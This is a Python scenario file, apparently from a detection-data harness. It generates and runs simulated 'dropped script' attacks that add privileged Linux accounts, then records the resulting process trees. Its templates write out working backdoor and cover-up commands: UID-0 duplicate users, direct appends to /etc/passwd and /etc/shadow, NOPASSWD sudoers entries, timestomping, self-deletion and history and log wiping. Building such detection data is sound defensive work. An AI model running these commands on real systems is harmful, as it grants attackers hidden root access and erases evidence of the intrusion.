"""A new privileged user, added by a dropped script.

Carriers: the script's interpreter, the shells between it and a program that changes the account files, and
those programs.
"""

import shutil
from pathlib import Path

from capture.recording import Recording
from scenarios import inputs, simulated_attack

FILES = ("passwd", "shadow", "group", "gshadow", "subuid", "subgid")
CHANGING = {"useradd", "usermod", "groupadd", "gpasswd", "chpasswd", "chage"}

LOOK = ["id", "uname -a", "cat /etc/passwd | wc -l", "whoami", "ls -la /home", "grep sudo /etc/group", "w", "hostname"]
ADD = {
    "root twin": "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {name}\necho '{name}:{word}' | chpasswd",
    "sudoer": "useradd -m -s /bin/bash -G sudo {name}\necho '{name}:{word}' | chpasswd",
    "joined later": "useradd -M -N -s /bin/sh {name}\nusermod -aG sudo,adm {name}\necho '{name}:{word}' | chpasswd",
    "given hash": "useradd -m -p \"$(openssl passwd -6 {word})\" -s /bin/bash {name}\nusermod -o -u 0 -g 0 {name}",
    "system user": "groupadd -f {name}\nuseradd -r -g {name} -d /var/lib/{name} -s /bin/bash {name}\ngpasswd -a {name} sudo\necho '{name}:{word}' | chpasswd",
    "by hand": "h=$(openssl passwd -6 {word})\necho '{name}:x:0:0::/root:/bin/bash' >> /etc/passwd\necho \"{name}:$h:19000:0:99999:7:::\" >> /etc/shadow",
    "no expiry": "useradd -o -u 0 -g root -m -k /nowhere {name}\nchage -M -1 -E -1 {name}\necho '{name}:{word}' | chpasswd -c SHA256",
}
HIDE = ["touch -r /etc/hostname /etc/passwd /etc/shadow", "rm -f \"$0\"", "getent passwd {name}", "su {name} -c id", "sed -i '/{name}/d' /var/log/lastlog.txt 2>/dev/null",
        "unset HISTFILE", "echo '{name} ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/{name}", "sleep 0.{digit}", "chmod 440 /etc/sudoers.d/{name} 2>/dev/null"]


def script(rec: Recording, way: str) -> str:
    rng = rec.rng
    name = rng.choice(["support", "backup2", "sysd", "nagios", "ftpadm", "test", "oper"]) + rng.choice(["", "x", "1"])
    lines = [*rng.sample(LOOK, rng.randint(0, 4)), *ADD[way].split("\n"), *rng.sample(HIDE, rng.randint(0, 4))]
    return "\n".join(lines).replace("{name}", name).replace("{word}", rng.choice(inputs.WORDS)).replace("{digit}", str(rng.randint(1, 4))) + "\n"


def dropped(rec: Recording, way: str) -> list[str]:
    """Writes the script in some language and returns how it is started."""
    rng = rec.rng
    body = script(rec, way)
    language = rng.choice(["bash", "sh", "dash", "python3", "perl", "bash -c"])
    if language == "python3":
        lines = [f"    subprocess.run({line!r}, shell=True)\n" for line in body.splitlines()]
        source = "import os, subprocess, pwd\nif os.getuid() == 0 and len(pwd.getpwall()) > 1:\n" + "".join(lines)
        return ["/usr/bin/python3", str(rec.write("update.py", source))]
    if language == "perl":
        source = "exit 1 if $>;\n" + "".join(f"system q\x01{line}\x01;\n" for line in body.splitlines())
        return ["/usr/bin/perl", str(rec.write("update.pl", source))]
    if language == "bash -c":
        return ["/bin/bash", "-c", body]
    return [f"/bin/{language}", str(rec.write(".cache.sh", body, 0o755))]


@simulated_attack(20)
def adduser(rec: Recording) -> None:
    ways = rec.rng.sample(list(ADD), 4)
    for way in ways:
        saved = rec.work / "etc"
        saved.mkdir(exist_ok=True)
        for name in FILES:
            shutil.copy2(f"/etc/{name}", saved)
        try:
            argv = dropped(rec, way)
            tree = rec.observe(argv)
        finally:
            for name in FILES:
                shutil.copy2(saved / name, f"/etc/{name}")
            for extra in Path("/etc/sudoers.d").glob("*"):
                if extra.name != "README":
                    extra.unlink()
        changing = {task.tid for task in tree if task.program in CHANGING}
        rec.keep([t for t in tree if t is tree.root() or changing & {below.tid for below in tree.below(t.tid)}])
